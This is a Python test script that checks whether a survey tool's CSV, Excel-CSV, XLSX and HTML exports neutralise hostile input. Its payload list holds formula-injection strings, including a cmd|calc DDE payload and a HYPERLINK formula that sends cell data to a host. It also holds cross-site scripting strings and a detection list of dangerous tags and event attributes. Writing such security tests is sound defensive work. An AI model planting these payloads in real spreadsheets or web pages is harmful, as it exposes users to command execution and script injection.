#!/usr/bin/env python3
"""Asks other programs what they see in the files that sipas writes from a study full of formulas.

    pip install openpyxl
    swift build && Scripts/exports.py

Every name, label, header, free text and file name of a small study is a formula or markup. Then:

- CSV: Python's reader finds every text letter by letter.
- CSV for spreadsheets: no cell, nor what another delimiter would make of one, begins a formula, but for
  numbers in columns of numbers; without the apostrophes it is the same table.
- XLSX: openpyxl finds texts and numbers, and not one formula.
- HTML: Python's parser finds no element or attribute but those of a report.
"""

import csv
import io
import itertools
import json
import re
import subprocess
import sys
import tempfile
from html.parser import HTMLParser
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SIPAS = ROOT / ".build/debug/sipas"

PAYLOADS = [
    "=1+1", "+84912345678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1",
    "－1", "＠x", "|calc", "%0A=1", "'=1+1", "''=1", "a;=1+1", "a,=1+1", 'a"=1+1', "a\n=1+1",
    "a\t=1+1", '=HYPERLINK("http://x?"&A1,"y")', '"><svg onload=alert(1)>',
    "</script><script>alert(1)</script>", "\u200b=1", "<img src=x onerror=alert(1)>", "Hài lòng",
]


def text(payload):
    """A payload as a YAML text, which is also JSON."""
    return json.dumps(payload, ensure_ascii=False)


def study(folder, payload):
    """A study in which every name is the payload, and a batch in which every text is."""
    safe = re.sub(r"[\x00-\x1f]", " ", payload).strip()
    options = ", ".join(
        f'{{code: "{code}", label: {{vi: {text(f"{safe} {code}")}, en: {text(f"{safe} {code}")}}}}}'
        for code in "12345")
    (folder / "form.yaml").write_text(f"""
questionnaire: hostile
version: "1"
title: {{vi: {text(safe)}, en: {text(safe)}}}
scales: {{satisfaction-5: {{options: [{options}]}}}}
items:
  - {{id: q1, type: single, scale: satisfaction-5, label: {{vi: {text(safe + " q")}, en: {text(safe + " q")}}}}}
  - {{id: balance, type: number, label: {{vi: Số dư, en: Balance}}}}
  - {{id: remark, type: text, label: {{vi: Góp ý, en: Remark}}}}
axes: {{id: index, label: {{vi: {text(safe)}, en: {text(safe)}}}, items: [q1]}}
profiles: {{mean: {{default: true, scores: {{satisfaction-5: {{"1": 0, "2": 0.25, "3": 0.5, "4": 0.75, "5": 1}}}}}}}}
""")
    with open(folder / "units.csv", "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerows([["code", "name", "kind", "parent"], ["01", safe, "province", ""],
                          ["02", safe + " 2", "commune", "01"], ["03", safe + " 3", "commune", "01"]])
    header = safe + " unit"
    (folder / "study.yaml").write_text(f"""
study: hostile
title: {{vi: {text(safe)}, en: {text(safe)}}}
wave: "2025"
questionnaire: form.yaml
reference-date: 2025-12-31
units: units.csv
columns: {{unit: {text(header)}, key: [number]}}
publication: {{minimum-answers: 1}}
""")
    (folder / "in").mkdir()
    name = re.sub(r"[/\x00-\x1f]", "_", safe)
    batch = folder / "in" / f"{name}.csv"
    with open(batch, "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([header, "number", "q1", "balance", "remark"])
        for number in range(1, 9):
            unit = "02" if number % 2 else "03"
            writer.writerow([unit, f"P{number}", 1 + number % 5, -number - 0.5, payload])
        writer.writerow(["02", "P9", payload, -1, payload])
        writer.writerow([payload, "P10", "1", payload, payload])
    return batch, header


def sipas(*arguments):
    command = [SIPAS, *arguments, "--lang", "vi"]
    result = subprocess.run(command, capture_output=True, check=False)
    if result.returncode != 0:
        raise SystemExit(f"{command}\n{result.stderr.decode()}")
    return result.stdout


def is_number(cell):
    return re.fullmatch(r"[-+]?[0-9][0-9.,]*(e[-+]?[0-9]+)?", cell) is not None


def is_live(cell):
    """Whether a cell, or a piece of it, could be taken for a formula."""
    if cell[:1] in "\t\r\n|%" and cell:
        return True
    pieces = re.split(r'[,;|"\t\r\n]', cell)
    return any(re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", piece) for piece in pieces)


def rows(data, delimiter):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def csv_faults(what, plain, excel, delimiter=";"):
    """What is wrong with a table in its two forms."""
    faithful = rows(plain, ",")
    safe = rows(excel, delimiter)
    if plain.startswith(b"\xef\xbb\xbf") or not excel.startswith(b"\xef\xbb\xbf"):
        yield f"{what}: byte order marks"
    if len(faithful) != len(safe):
        yield f"{what}: {len(faithful)} and {len(safe)} rows"
    for left, right in zip(faithful, safe):
        for raw, cell in zip(left, right):
            number = is_number(cell) and cell.replace(",", ".") == raw
            if is_live(cell) and not number:
                yield f"{what}: {cell!r} is alive"
            if not number and re.sub(r"'(?='*[\s\u200b]*[=+\-@|%＝＋－＠\t\r\n])", "", cell) != \
                    re.sub(r"'(?='*[\s\u200b]*[=+\-@|%＝＋－＠\t\r\n])", "", raw):
                yield f"{what}: {cell!r} is not {raw!r}"


class Report(HTMLParser):
    """Counts what a parser takes for markup."""

    def __init__(self):
        super().__init__()
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "img", "iframe", "object", "embed", "link", "base", "form"}:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.faults.append(f"<{tag} {name}>")


def html_faults(path):
    report = Report()
    report.feed(path.read_text())
    return [f"{path.name}: {fault}" for fault in report.faults]


def xlsx_faults(path, payload):
    try:
        from openpyxl import load_workbook
    except ImportError:
        print("openpyxl is not installed: XLSX passed over", file=sys.stderr)
        return
    book = load_workbook(path)
    cells = list(itertools.chain.from_iterable(book.worksheets[0].iter_rows()))
    for cell in cells:
        if cell.data_type == "f":
            # openpyxl takes every text that begins with = for a formula; the file says what it is.
            continue
        if isinstance(cell.value, str) and cell.value.startswith("'") and not payload.startswith("'"):
            yield f"{path.name}: {cell.value!r} has an apostrophe"
    import zipfile
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/") and b"<f" in archive.read(part):
                yield f"{path.name}: a formula in {part}"


def check(payload):
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        batch, header = study(folder, payload)
        sipas("import", folder, batch)
        aside = list((folder / "quarantine").iterdir())
        if len(aside) != 1:
            yield f"{len(aside)} quarantine files"
        for path in aside:
            for row in rows(path.read_bytes(), ",")[1:]:
                for column, cell in enumerate(row):
                    if is_live(cell) and not (column == 3 and is_number(cell)):
                        yield f"quarantine: {cell!r} is alive"
        for arguments in (["score"], ["export"], ["export", "--labels"]):
            option = "--format" if arguments[0] == "score" else "--to"
            command = [arguments[0], folder, *arguments[1:], option]
            plain, excel = sipas(*command, "csv"), sipas(*command, "excel-csv")
            yield from csv_faults(" ".join(arguments), plain, excel)
            if arguments == ["export"]:
                found = {row[-1].strip() for row in rows(plain, ",")[1:]}
                if found != {payload.strip(" \u200b")}:
                    yield f"free text: {found} for {payload!r}"
                if rows(plain, ",")[0][1] != header.strip():
                    yield f"header: {rows(plain, ',')[0]}"
        sipas("export", folder, "--labels", "--output", folder / "rows.xlsx")
        yield from xlsx_faults(folder / "rows.xlsx", payload)
        output = folder / "output"
        sipas("run", folder, "--output", output)
        yield from html_faults(output / "report.html")
        rows((output / "findings.csv").read_bytes(), ",")


def main():
    faults = [f"{payload!r}: {fault}" for payload in PAYLOADS for fault in check(payload)]
    for fault in faults:
        print(fault)
    print(f"{len(PAYLOADS)} payloads, {len(faults)} faults")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main())
